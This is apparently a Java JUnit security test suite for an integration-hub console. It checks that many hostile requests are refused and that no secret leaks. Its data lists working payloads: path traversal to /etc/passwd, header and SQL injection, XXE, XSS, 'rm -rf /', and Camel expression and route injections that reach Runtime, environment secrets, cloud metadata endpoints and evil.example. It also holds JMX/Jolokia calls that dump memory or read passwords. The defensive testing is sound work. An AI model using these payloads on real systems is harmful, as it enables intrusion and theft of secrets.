package io.feedhub.console;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.feedhub.RunningHub;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import org.apache.camel.CamelContext;
import org.apache.camel.Exchange;
import org.apache.camel.support.DefaultExchange;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.slf4j.LoggerFactory;

/**
 * What strangers and people with a grudge try, against one running hub. Each try is refused and, where it was an action of
 * somebody who is signed in, on record; at the end no secret is in the log or in the audit.
 */
class AttackTest {
    /** Stands for whatever is secret in a request. */
    private static final String CANARY = "canary7f3a91";

    private static final String PASSWORD = "pass-" + CANARY;
    private static final String PAUSE = "/api/flows/heartbeat_pulse/pause";
    private static final String JSON = "Content-Type: application/json";
    private static final ListAppender<ILoggingEvent> LOG = new ListAppender<>();

    @TempDir
    private static Path folder;

    private static RunningHub hub;
    private static Wire wire;

    @BeforeAll
    static void start() throws IOException {
        Path routes = Files.createDirectories(folder.resolve("routes/infrastructure"));
        Files.copy(Path.of("routes/infrastructure/heartbeat_pulse.yaml"), routes.resolve("heartbeat_pulse.yaml"));
        Map<String, Object> users = new HashMap<>(Caller.oneOfEachRole(PASSWORD));
        users.put("feedhub.services.numu.token", CANARY);
        users.put("feedhub.node.name", "local");
        hub = new RunningHub(folder.resolve("routes"), users);
        wire = new Wire(hub.address());
        LOG.start();
        root().addAppender(LOG);
    }

    @AfterAll
    static void nothingSecretWasWritten() {
        root().detachAppender(LOG);
        try {
            assertThat(logged()).isNotEmpty().allSatisfy(event -> {
                assertThat(event.getFormattedMessage()).doesNotContain(CANARY);
                assertThat(String.valueOf(event.getThrowableProxy())).doesNotContain(CANARY);
            });
            assertThat(hub.count("select count(*) from feedhub.audit a where a::text like '%" + CANARY + "%'"))
                    .isZero();
            assertThat(hub.count("select count(*) from feedhub.state")).isZero();
        } finally {
            hub.close();
        }
    }

    /**
     * A request and what becomes of it.
     *
     * @param who a role that sends its right credentials, or nobody
     * @param onRecord the audit's action, or empty where nothing is recorded
     */
    private record Try(
            String name,
            String who,
            String line,
            String body,
            List<String> headers,
            List<Integer> statuses,
            String onRecord) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static Try door(String name, String who, String line, int status, String... headers) {
        return new Try(name, who, line, "", List.of(headers), List.of(status), "");
    }

    private static Try action(
            String name, String who, String line, String body, int status, String record, String... headers) {
        return new Try(name, who, line, body, List.of(headers), List.of(status), record);
    }

    static Stream<Try> requests() {
        String big = "x".repeat(2_000_000);
        return Stream.of(
                door("traversal in an address", "viewer", "GET /api/flows/../../etc/passwd", 400),
                door("traversal, encoded", "viewer", "GET /api/flows/%2e%2e%2f%2e%2e%2fetc%2fpasswd", 400),
                door("traversal, encoded twice", "viewer", "GET /desk/%252e%252e%252fapplication.yaml", 400),
                door("traversal with backslashes", "editor", "PUT /api/flows/..%5c..%5cevil", 400),
                door("a slash in a name", "editor", "PUT /api/flows/evil%2Fname", 400),
                door("a null in a filter", "viewer", "GET /api/runs?flow=%00", 400),
                door("a year that no calendar has", "viewer", "GET /api/runs?since=%2B300000-01-01T00:00:00Z", 400),
                door("the last of all years", "viewer", "GET /api/runs?since=%2B1000000000-12-31T23:59:59Z", 400),
                door("a null in a name", "viewer", "GET /api/flows/heartbeat%00pulse", 400),
                door("a line end in a name", "viewer", "GET /api/flows/a%0d%0aSet-Cookie:%20a=b", 400),
                door("a matrix parameter before the role's row", "viewer", "GET /api/audit;x=1", 400),
                door("two slashes", "viewer", "GET //api/audit", 400),
                door("a slash behind", "viewer", "GET /api/audit/", 404),
                door("another case", "viewer", "GET /API/AUDIT", 404),
                door("a suffix", "viewer", "GET /api/audit.json", 404),
                door("the jar's configuration", "viewer", "GET /desk/application.yaml", 404),
                door("an actuator that is not exposed", "admin", "GET /env", 404),
                door("Boot's own Jolokia", "admin", "GET /jolokia", 404),
                door("Hawtio's proxy", "admin", "GET /hawtio/proxy/http/169.254.169.254/latest", 404),
                door(
                        "a token in the query",
                        "nobody",
                        "GET /api/flows?token=" + CANARY + "&access_token=" + CANARY,
                        401),
                door("a guessed token", "nobody", "GET /api/flows", 401, "Authorization: Bearer " + CANARY),
                door("a guessed password", "nobody", "GET /api/flows", 401, Wire.basic("admin", CANARY + "!")),
                door("half a Basic header", "nobody", "GET /api/flows", 401, "Authorization: Basic " + CANARY),
                door("a foreign address as one's own", "nobody", "GET /api/flows", 401, "X-Forwarded-For: 127.0.0.1"),
                door("another host", "admin", "GET /api/flows", 400, "Host: evil.example"),
                door(
                        "another host in the address",
                        "admin",
                        "GET http://evil.example/api/flows",
                        400,
                        "Host: evil.example"),
                door("two hosts", "admin", "GET /api/flows", 400, "Host: 127.0.0.1", "Host: evil.example"),
                door("a host with a user in it", "admin", "GET /api/flows", 400, "Host: 127.0.0.1@evil.example"),
                door("an unknown verb", "admin", "JEFF /api/flows", 400),
                door("TRACE", "admin", "TRACE /api/flows", 400),
                door("a verb that has no row", "admin", "DELETE /api/flows/heartbeat_pulse/state", 405),
                door("a verb in a header", "viewer", "POST /api/audit", 405, "X-HTTP-Method-Override: GET"),
                door("a giant header", "admin", "GET /api/flows", 400, "X-Big: " + "x".repeat(70_000)),
                door("a giant address", "admin", "GET /api/flows?flow=" + "x".repeat(70_000), 400),
                door("a header with a line end", "admin", "GET /api/flows", 400, "X-One: a\rX-Two: b"),
                door("a header with a null", "admin", "GET /api/flows", 400, "X-One: a\0b"),
                action("two lengths", "admin", "POST " + PAUSE, "", 400, "", "Content-Length: 1", "Content-Length: 2"),
                action("an action of another role", "viewer", "POST " + PAUSE, "", 403, "POST"),
                action("an edit by an operator", "operator", "PUT /api/flows/heartbeat_pulse", "x", 403, "PUT"),
                action(
                        "a page of another origin",
                        "nobody",
                        "POST " + PAUSE,
                        "",
                        403,
                        "",
                        "Origin: https://evil.example"),
                action("a sandboxed frame", "operator", "POST " + PAUSE, "", 403, "", "Origin: null"),
                action(
                        "a form of another site",
                        "operator",
                        "POST " + PAUSE,
                        "",
                        403,
                        "",
                        "Sec-Fetch-Site: cross-site"),
                action(
                        "XML with an entity",
                        "operator",
                        "POST /api/commands",
                        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
                        415,
                        "",
                        "Content-Type: application/xml"),
                action("a file that has no ending", "viewer", "POST /api/flows/check?file=a", "x", 400, ""),
                action("a flow's tests as a flow", "viewer", "POST /api/flows/check?file=a.test.yaml", "x", 400, ""),
                action("deep JSON", "operator", "POST /api/commands", "[".repeat(100_000), 400, "", JSON),
                action(
                        "JSON with types",
                        "operator",
                        "POST /api/commands",
                        "{\"machine\":\"m\",\"command\":\"ping\",\"arguments\":[\"java.util.HashMap\",{}]}",
                        400,
                        "",
                        JSON),
                action(
                        "a body that is too large",
                        "editor",
                        "PUT /api/flows/heartbeat_pulse",
                        big,
                        413,
                        "PUT",
                        "If-Match: 1"),
                action(
                        "one that does not say so",
                        "editor",
                        "PUT /api/flows/heartbeat_pulse",
                        Integer.toHexString(big.length()) + "\r\n" + big + "\r\n0\r\n\r\n",
                        413,
                        "",
                        "Transfer-Encoding: chunked"),
                action("a giant key", "operator", "POST " + PAUSE, "", 400, "", "Idempotency-Key: " + "k".repeat(300)),
                action(
                        "a shell in an argument",
                        "operator",
                        "POST /api/commands",
                        "{\"machine\":\"local\",\"command\":\"rm -rf /\"}",
                        202,
                        "command.ask",
                        JSON),
                action(
                        "arguments without an end",
                        "operator",
                        "POST /api/commands",
                        "{\"machine\":\"local\",\"command\":\"ping\",\"arguments\":{\"word\":\"" + "x".repeat(17_000)
                                + "\"}}",
                        400,
                        "",
                        JSON),
                action(
                        "a command's giant key",
                        "operator",
                        "POST /api/commands",
                        "{\"machine\":\"local\",\"command\":\"ping\",\"key\":\"" + "k".repeat(3_000) + "\"}",
                        400,
                        "",
                        JSON),
                action(
                        "a flow of another name",
                        "editor",
                        "PUT /api/flows/-rf",
                        flow("log: hello"),
                        422,
                        "flow.edit",
                        "If-Match: 0"),
                action("a number that is none", "operator", "POST /api/deliveries/1%27%20or%201=1/retry", "", 400, ""));
    }

    @ParameterizedTest
    @MethodSource("requests")
    void aRequestIsRefused(Try one) {
        long before = records(one.onRecord());
        int begun = logged().size();
        Wire.Answer answer = wire.send(one.line(), one.body(), headers(one));
        assertThat(one.statuses()).as(answer.text()).contains(answer.status());
        assertThat(answer.text()).doesNotContain(CANARY).doesNotContain("root:").doesNotContain("\tat ");
        if (!one.onRecord().isEmpty()) {
            assertThat(records(one.onRecord())).isGreaterThan(before);
        }
        if (answer.status() == 401 || answer.status() == 403) {
            List<ILoggingEvent> all = logged();
            assertThat(all.subList(begun, all.size()))
                    .anySatisfy(event -> assertThat(event.getFormattedMessage()).startsWith("refused with"));
        }
    }

    @Test
    void aViewerQueuesNothingThatTheHubDoesNotKnow() {
        long before = records("command.ask");
        Wire.Answer answer = wire.send(
                "POST /api/commands",
                "{\"machine\":\"local\",\"command\":\"anything\"}",
                JSON,
                Wire.basic("the viewer", PASSWORD));
        assertThat(answer.status()).as(answer.text()).isEqualTo(403);
        assertThat(records("command.ask")).isEqualTo(before + 1);
    }

    /** PostgreSQL has the same exception for it as for an outage. */
    @Test
    void aKeyThatNoIndexTakesIsNoOutage() {
        StringBuilder key = new StringBuilder();
        new Random(7).ints(6_000, '!', '~').filter(Character::isLetterOrDigit).forEach(key::appendCodePoint);
        Wire.Answer answer = wire.send("PUT /api/flows/" + key, "x", "If-Match: 0", Wire.basic("the editor", PASSWORD));
        assertThat(answer.status()).as(answer.text()).isEqualTo(400);
    }

    /** Steps that reach the machine, the hub's own parts, its secrets or the network behind its back. */
    static Stream<String> steps() {
        return Stream.of(
                "setBody: { simple: \"${sysenv.FEEDHUB_DATABASE_PASSWORD}\" }",
                "setBody: { simple: \"${sys.user.home}\" }",
                "setBody: { simple: \"${bean:audit?method=toString}\" }",
                "setBody: { simple: \"${type:java.lang.Runtime}\" }",
                "setBody: { simple: \"${body.class.forName('java.lang.Runtime')}\" }",
                "setBody: { simple: \"${camelContext.registry}\" }",
                "setBody: { simple: \"${properties:feedhub.services.numu.token}\" }",
                "setBody: { constant: \"{{env:HOME}}\" }",
                "setBody: { constant: \"{{feedhub.services.numu.token}}\" }",
                "setBody: { groovy: \"'id'.execute().text\" }",
                "setBody: { ognl: \"@java.lang.Runtime@getRuntime()\" }",
                "setBody: { mvel: \"1\" }",
                "setBody: { spel: \"#{T(java.lang.Runtime)}\" }",
                "setBody: { java: \"1\" }",
                "setBody: { ref: refusals }",
                "setBody: { method: { ref: audit, method: toString } }",
                "setBody: { language: { language: groovy, expression: \"1\" } }",
                "setBody: { jq: { expression: env } }",
                "setBody: { simple: { expression: \"resource:file:/etc/passwd\" } }",
                "setHeader: { name: CamelHttpUri, constant: \"http://169.254.169.254/\" }",
                "setHeader: { name: CamelRestHttpUri, constant: \"http://169.254.169.254/\" }",
                "setHeader: { name: CamelSqlQuery, constant: \"drop table feedhub.audit\" }",
                "setHeader: { name: CamelFileName, constant: ../../x }",
                "setHeaders: { headers: [ { name: CamelHttpUri, constant: \"http://169.254.169.254/\" } ] }",
                "bean: { ref: audit, method: newest }",
                "bean: { beanType: java.lang.Runtime, method: getRuntime }",
                "process: { ref: refusals }",
                "script: { groovy: \"1\" }",
                "to: { uri: \"bean:audit?method=newest\" }",
                "to: { uri: \"class:java.lang.Runtime?method=getRuntime\" }",
                "to: { uri: \"exec:id\" }",
                "to: { uri: \"file:/etc?fileName=passwd\" }",
                "to: { uri: \"language:simple:${sysenv.HOME}\" }",
                "to: { uri: \"http://169.254.169.254/latest/meta-data\" }",
                "to: { uri: \"http:2852039166/latest\" }",
                "to: { uri: \"http://numu@evil.example/\" }",
                "to: { uri: \"https://evil.example\", parameters: { followRedirects: true } }",
                "to: { uri: \"kamelet:../../etc/passwd\" }",
                "to: { uri: sql, parameters: { query: \"delete from feedhub.audit\" } }",
                "to: { uri: sql, parameters: { query: \"file:/etc/passwd\" } }",
                "to: { uri: log, parameters: { showAll: true, logger: \"#refusals\" } }",
                "toD: { uri: \"${body}\" }",
                "recipientList: { simple: \"${body}\" }",
                "routingSlip: { simple: \"${body}\" }",
                "dynamicRouter: { simple: \"${body}\" }",
                "enrich: { simple: \"${body}\" }",
                "pollEnrich: { simple: \"file:/etc?fileName=passwd\" }",
                "wireTap: { uri: \"${body}\" }",
                "unmarshal: { fory: {} }",
                "unmarshal: { custom: { ref: refusals } }",
                "unmarshal: { json: { unmarshalType: java.lang.Runtime, allowUnmarshallType: true } }",
                "idempotentConsumer: { simple: \"${body}\", idempotentRepository: \"#class:java.util.HashMap\", steps: [] }",
                "policy: { ref: \"#class:java.lang.Thread\", steps: [] }",
                "kamelet: { name: \"http-action\" }",
                "marshal: !!javax.script.ScriptEngineManager []",
                "log: { message: \"${exchange.context.stop}\" }",
                "convertBodyTo: org.springframework.context.support.FileSystemXmlApplicationContext",
                "convertBodyTo: { type: java.io.File }",
                "setBody: { simple: { expression: \"${body}\", resultType: java.io.FileInputStream } }",
                "setBody: { simple: \"${bodyAs(org.springframework.context.support.FileSystemXmlApplicationContext)}\" }",
                "setBody: { simple: \"${headerAs(x, java.io.File)}\" }",
                "setBody: { simple: \"${mandatoryBodyAs( 'java.io.File' )}\" }",
                "log: { logLanguage: spel, message: \"#{T(java.lang.Runtime)}\" }",
                "split: { simple: \"${body}\", onPrepare: audit, steps: [] }",
                "sort: { simple: \"${body}\", comparator: audit }",
                "split: { simple: \"${body}\", aggregationStrategy: seen, aggregationStrategyMethodName: clear, steps: [] }",
                "step: { steps: [] }\n    errorHandlerRef: audit",
                "step: { steps: [] }\n    errorHandler: { deadLetterChannel: { deadLetterUri: \"http://169.254.169.254/\" } }",
                "step: { steps: [] }\n    routePolicy: audit",
                "step: { steps: [] }\n    inputType: { urn: \"java:java.io.File\" }",
                "to: { uri: \"kamelet:discord-sink/attack-x?location=http://10.0.0.5/k\", parameters: { channel: infra, title: x } }",
                "to: { uri: \"kamelet:discord-sink/attack-x\", parameters: { channel: infra, title: \"RAW(resource:http://10.0.0.5/k)\" } }",
                "to: { uri: \"kamelet:discord-sink/attack-x\", parameters: { channel: infra, title: \"RAW(resource:http://10.0.0.5/k?a&b)\" } }",
                "to: { uri: \"kamelet:discord-sink/attack-x\", parameters: { channel: infra, title: \"%24{sysenv.HOME}\" } }",
                "to: { uri: \"sql:update %66eedhub.run set flow = 'x'\" }",
                "to: { uri: sql, parameters: { query: \"update %66eedhub.run set flow = 'x'\" } }",
                "to: { uri: sql, parameters: { query: \"select 'a?useMessageBodyForSql=true'\" } }",
                "to: { uri: log, parameters: { \"marker=x&exchangeFormatter\": \"#audit\" } }",
                "to: { uri: log:x, parameters: { exchangeFormatter: \"#audit\" } }",
                "to: { uri: sql, parameters: { query: \"bean:audit\" } }",
                "to: { uri: sql, parameters: { query: \"ref:audit\" } }",
                "to: { uri: sql, parameters: { query: \"https://10.0.0.5/query\" } }",
                "to: { uri: sql, parameters: { query: \"select 1\", useMessageBodyForSql: true } }",
                "to: { uri: sql, parameters: { query: \"select 1\", outputClass: java.io.File } }",
                "to: { uri: sql, parameters: { query: \"select 1\", dataSource: \"#dataSource\" } }",
                "to: { uri: sql, parameters: { query: \"select 1\", usePlaceholder: false } }",
                "to: { uri: sql, parameters: { query: \"select 1\", template.fetchSize: 1 } }",
                "to: { uri: sql, parameters: { query: \"set search_path = feedhub\" } }",
                "to: { uri: sql, parameters: { query: \"select 1; do 'begin end'\" } }",
                "to: { uri: sql, parameters: { query: \"truncate articles, feedhub.occurrence\" } }",
                "to: { uri: sql, parameters: { query: \"select 'drop table feedhub.audit'\", outputHeader: CamelSqlQuery } }",
                "setHeader: { name: \"${variable.n}\", constant: \"drop table feedhub.audit\" }",
                "removeProperty: feedhub.run",
                "setBody: { simple: '${variable.x\\}.exchange.context.createProducerTemplate}' }",
                "setBody: { simple: \"${variable.m.get('[').exchange.context.x(']')}\" }",
                "filter: { simple: \"${list(${body[n]},'${variable.v}')} contains 'x'\", steps: [] }",
                "setBody: { simple: \"${exception.exchange.context}\" }",
                "setBody: { simple: \"${exception.stackTrace}\" }",
                "setBody: { simple: \"${exchangeProperty.CamelGroupedExchange[0].context.registry}\" }",
                "setBody: { simple: \"${exchangeProperty:CamelGroupedExchange[0].context.registry}\" }",
                "setBody: { simple: \"${exchangeProperty[CamelGroupedExchange[0].context.registry]}\" }",
                "setBody: { simple: \"${exchangeProperty.CamelGroupedExchange[0]?.getContext()}\" }",
                "setBody: { simple: \"${exchangeProperty.CamelExceptionCaught.exchange}\" }",
                "setBody: { simple: \"${body['a'].exchange}\" }",
                "setBody: { simple: \"${bodyAs(String).getBytes}\" }",
                "setBody: { simple: \"${variable.feedhub.context}\" }",
                "setBody: { simple: \"${body.toString(1).getChars}\" }",
                "setBody: { simple: \"${body[${header.a}].context}\" }",
                "setBody: { simple: \"${jq(resource:file:/etc/passwd)}\" }",
                "setBody: { simple: \"${originalBody.exchange}\" }",
                "setBody: { simple: \"${hash(resource:file:/etc/passwd)}\" }",
                "setBody: { constant: \"\\u0001resource:http://10.0.0.5/k\" }",
                "setBody: { jq: \"resource:http://10.0.0.5/k\" }",
                "filter: { simple: \"resource:http://10.0.0.5/k\", steps: [] }",
                "setBody: { simple: \"${body[0]exchange}\" }",
                "to: { uri: sql, parameters: { query: \"select :#${exception.exchange.context.name}\" } }");
    }

    @ParameterizedTest
    @MethodSource("steps")
    void aFlowThatReachesTooFarIsRefused(String step) {
        String name = "attack_" + Integer.toHexString(step.hashCode());
        assertThat(edit(name, flow(step).replace("attack", name))).as(step).isEqualTo(422);
    }

    /** Else the flow around the steps would be what is refused. */
    @Test
    void aFlowWithAHarmlessStepIsTaken() {
        assertThat(edit("harmless", flow("setBody: { constant: hello }").replace("attack", "harmless")))
                .isEqualTo(200);
    }

    @Test
    void jqDoesNotReadTheEnvironment() {
        CamelContext camel = hub.bean(CamelContext.class);
        Exchange exchange = new DefaultExchange(camel);
        exchange.getMessage().setBody("{}");
        for (String expression : List.of("env", "env | keys", "[env]", "$ENV", "debug_scope | env", "input_filename")) {
            assertThatThrownBy(() -> camel.resolveLanguage("jq")
                            .createExpression(expression)
                            .evaluate(exchange, String.class))
                    .as(expression)
                    .isNotNull();
        }
    }

    @Test
    void aYamlBombIsRefusedAtOnce() {
        StringBuilder bomb = new StringBuilder("- a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 30; i++) {
            bomb.append("  a")
                    .append(i)
                    .append(": &a")
                    .append(i)
                    .append(" [")
                    .append(("*a" + (i - 1) + ", ").repeat(9))
                    .append("x]\n");
        }
        assertThat(edit("bomb", bomb.toString())).isEqualTo(422);
        assertThat(edit("bomb", "[".repeat(50_000))).isEqualTo(422);
        assertThat(edit("bomb", "&a [*a]")).isEqualTo(422);
    }

    /** As an admin, by JMX over HTTP. */
    static Stream<Map<String, Object>> jmx() {
        String context = "org.apache.camel:context=feedhub,type=context,name=\"feedhub\"";
        return Stream.of(
                exec(context, "sendBody(java.lang.String,java.lang.Object)", "file:/tmp?fileName=x", "x"),
                exec(
                        context,
                        "requestStringBody(java.lang.String,java.lang.String)",
                        "language:simple:${sysenv.HOME}",
                        ""),
                exec(context, "requestBody(java.lang.String,java.lang.Object)", "bean:audit", ""),
                exec(context, "createEndpoint(java.lang.String)", "file:/etc"),
                exec(context, "setGlobalProperty", "a", "b"),
                exec(context, "stop()"),
                exec("org.apache.camel:context=feedhub,type=routes,name=\"heartbeat_pulse\"", "remove()"),
                exec(
                        "org.apache.camel:context=feedhub,type=routes,name=\"heartbeat_pulse\"",
                        "updateRouteFromXml",
                        "<route/>"),
                exec("com.sun.management:type=DiagnosticCommand", "vmSystemProperties"),
                exec("com.sun.management:type=DiagnosticCommand", "compilerDirectivesAdd", "/etc/passwd"),
                exec("com.sun.management:type=HotSpotDiagnostic", "dumpHeap", "/tmp/heap", true),
                exec("java.util.logging:type=Logging", "setLoggerLevel", "", "ALL"),
                exec("java.lang:type=Memory", "gc"),
                exec("JMImplementation:type=MBeanServerDelegate", "getMBeanServerId"),
                Map.of("type", "read", "mbean", "java.lang:type=Runtime", "attribute", "SystemProperties"),
                Map.of("type", "read", "mbean", "com.zaxxer.hikari:type=PoolConfig (feedhub)", "attribute", "Password"),
                Map.of("type", "write", "mbean", "java.lang:type=Memory", "attribute", "Verbose", "value", true),
                Map.of(
                        "type",
                        "read",
                        "mbean",
                        "java.lang:type=Memory",
                        "attribute",
                        "Verbose",
                        "target",
                        Map.of(
                                "url",
                                "service:jmx:rmi:///jndi/rmi://169.254.169.254/x",
                                "user",
                                "u",
                                "password",
                                CANARY)),
                Map.of("type", "notification", "command", "register"));
    }

    private static Map<String, Object> exec(String bean, String operation, Object... arguments) {
        return Map.of("type", "exec", "mbean", bean, "operation", operation, "arguments", arguments);
    }

    @ParameterizedTest
    @MethodSource("jmx")
    void jmxIsNoWayRound(Map<String, Object> request) throws IOException {
        long before = hub.count("select count(*) from feedhub.audit where action like 'jmx.%' and result = 'refused'");
        Wire.Answer answer = wire.send(
                "POST /hawtio/jolokia",
                new ObjectMapper().writeValueAsString(request),
                JSON,
                Wire.basic("the admin", PASSWORD));
        String body = answer.text().substring(answer.text().indexOf("\r\n\r\n"));
        assertThat(body).doesNotContain("\"status\":200").containsPattern("\"status\":(400|403|404)");
        if (List.of("exec", "write").contains(request.get("type"))) {
            assertThat(hub.count("select count(*) from feedhub.audit where action like 'jmx.%' and result = 'refused'"))
                    .isEqualTo(before + 1);
        }
    }

    /** All answers to a bulk are in memory at once. */
    @Test
    void aViewerFillsTheHeapWithNoBulk() throws IOException {
        String dump = new ObjectMapper()
                .writeValueAsString(
                        exec("org.apache.camel:context=feedhub,type=context,name=\"feedhub\"", "dumpRoutesAsXml()"));
        assertThat(bulk(dump, 9_000)).isEqualTo(413);
        assertThat(bulk(dump, 6_000)).isEqualTo(400);
        String search = "{\"type\":\"search\",\"mbean\":\"*:*\"}";
        assertThat(bulk(search, 6_000)).isEqualTo(400);
        assertThat(bulk(search, 50)).isEqualTo(200);
    }

    private static int bulk(String request, int times) {
        String body = "[" + (request + ",").repeat(times - 1) + request + "]";
        return wire.send("POST /hawtio/jolokia", body, JSON, Wire.basic("the viewer", PASSWORD))
                .status();
    }

    @Test
    void jolokiaTakesNoLinks() {
        assertThat(wire.send(
                                "GET /hawtio/jolokia/read/java.lang:type=Memory/Verbose",
                                "",
                                Wire.basic("the admin", PASSWORD))
                        .text())
                .doesNotContain("\"status\":200");
    }

    @Test
    void thereIsNoSessionBeforeTheSignInThatSomebodyElseCouldKnow() {
        Caller browser = Caller.anonymous(hub);
        browser.send("GET", "/", null, "Accept", "text/html");
        browser.send("GET", "/sign-in", null);
        browser.form(
                "/sign-in",
                Map.of("username", "the viewer", "password", "wrong", "_csrf", browser.cookie("XSRF-TOKEN")));
        String before = browser.cookie("JSESSIONID");
        var answer = browser.form(
                "/sign-in",
                Map.of("username", "the viewer", "password", PASSWORD, "_csrf", browser.cookie("XSRF-TOKEN")));
        assertThat(answer.headers().firstValue("location").orElse("")).matches("/(?!/).*");
        assertThat(before).isEmpty();
        assertThat(browser.cookie("JSESSIONID")).isNotEmpty();
    }

    @Test
    void signingInLeadsNowhereElse() {
        for (String asked : List.of("/search?q=https://evil.example", "/sign-in?continue=https://evil.example")) {
            Caller browser = Caller.anonymous(hub);
            browser.send("GET", asked, null, "Accept", "text/html", "X-Forwarded-Host", "evil.example");
            browser.send("GET", "/sign-in", null);
            var answer = browser.form(
                    "/sign-in?continue=https://evil.example",
                    Map.of("username", "the viewer", "password", PASSWORD, "_csrf", browser.cookie("XSRF-TOKEN")));
            assertThat(answer.headers().firstValue("location").orElse("")).matches("/(?!/).*");
        }
    }

    @Test
    void aSessionWithoutItsCsrfTokenChangesNothingAndThatIsOnRecord() {
        Caller browser = Caller.browser(hub, "the operator", PASSWORD);
        long before = records("POST");
        assertThat(browser.status("POST", PAUSE)).isEqualTo(403);
        assertThat(browser.send("POST", PAUSE, null, "X-XSRF-TOKEN", "guess").statusCode())
                .isEqualTo(403);
        assertThat(browser.send("POST", PAUSE, "_csrf=guess", "Content-Type", "application/x-www-form-urlencoded")
                        .statusCode())
                .isEqualTo(403);
        assertThat(records("POST")).isEqualTo(before + 3);
    }

    @Test
    void whatIsReflectedIsEscaped() {
        for (String page : List.of("/search?q=", "/runs?flow=", "/deliveries?channel=", "/audit?subject=")) {
            String answer = wire.send(
                            "GET " + page + "%22%3E%3Cscript%3Ealert(1)%3C/script%3E%0d%0aSet-Cookie:%20a=b",
                            "",
                            Wire.basic("the admin", PASSWORD))
                    .text();
            assertThat(answer).doesNotContain("<script>alert");
            assertThat(answer.substring(0, answer.indexOf("\r\n\r\n"))).doesNotContain("Set-Cookie: a=b");
        }
    }

    private static int edit(String flow, String yaml) {
        long before = records("flow.edit");
        Wire.Answer answer = wire.send(
                "PUT /api/flows/" + flow,
                yaml,
                "If-Match: 0",
                "Content-Type: application/yaml",
                Wire.basic("the editor", PASSWORD));
        assertThat(records("flow.edit")).as(answer.text()).isEqualTo(before + 1);
        return answer.status();
    }

    private static long records(String action) {
        return hub.count("select count(*) from feedhub.audit where action = '" + action + "'");
    }

    private static String[] headers(Try one) {
        return one.who().equals("nobody")
                ? one.headers().toArray(String[]::new)
                : Stream.concat(Stream.of(Wire.basic("the " + one.who(), PASSWORD)), one.headers().stream())
                        .toArray(String[]::new);
    }

    private static String flow(String step) {
        return """
                - route:
                    id: attack
                    nodePrefixId: attack-
                    group: infrastructure
                    description: Looks harmless
                    note: |-
                      when   daily
                      reads  nothing
                      writes nothing
                      posts  nothing
                      keeps  nothing
                      fails  never
                    from:
                      uri: quartz:infrastructure/attack
                      parameters:
                        cron: "0 0 0 * * ?"
                      steps:
                        - %s
                """
                .formatted(step);
    }

    /** What was logged until now; the hub's threads go on. */
    private static List<ILoggingEvent> logged() {
        synchronized (LOG) { // as the appender does
            return List.copyOf(LOG.list);
        }
    }

    private static Logger root() {
        return (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
    }
}
